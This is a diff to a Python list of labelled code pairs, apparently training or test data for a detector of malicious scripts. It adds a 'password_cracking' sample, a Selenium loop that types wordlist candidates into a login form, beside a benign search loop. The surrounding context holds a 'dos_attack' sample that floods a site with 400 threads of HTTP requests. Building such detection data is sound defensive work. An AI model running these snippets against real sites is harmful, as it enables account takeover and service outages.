@@ -57,6 +57,13 @@ PAIRS = [
      "import requests\ns = requests.Session()\nform = {'user': 'me', 'password': open('.secret').read().strip()}\n"
      "s.post('http://app.example.org/login', data=form)\nfor page in ['a', 'b', 'c']:\n"
      "    print(s.get('http://app.example.org/' + page).status_code)"),
+    ("password trial: a browser typing word-list candidates into a password field", "password_cracking",
+     "from selenium import webdriver\nfrom selenium.webdriver.common.by import By\nd = webdriver.Chrome()\n"
+     "box = d.find_element(By.ID, 'password')\nfor cand in open('wordlist.txt'):\n    box.clear()\n"
+     "    box.send_keys(cand.strip())\n    d.find_element(By.ID, 'go').click()",
+     "from selenium import webdriver\nfrom selenium.webdriver.common.by import By\nd = webdriver.Chrome()\n"
+     "for term in open('queries.txt'):\n    q = d.find_element(By.NAME, 'q')\n    q.clear()\n    q.send_keys(term.strip())\n"
+     "    d.find_element(By.ID, 'search').click()"),
     ("flood: threads of HTTP requests", "dos_attack",
      "import requests, threading\naim = 'http://shop.example.net/'\ndef spam():\n    while True:\n        requests.get(aim)\n"
      "for _ in range(400):\n    threading.Thread(target=spam).start()",
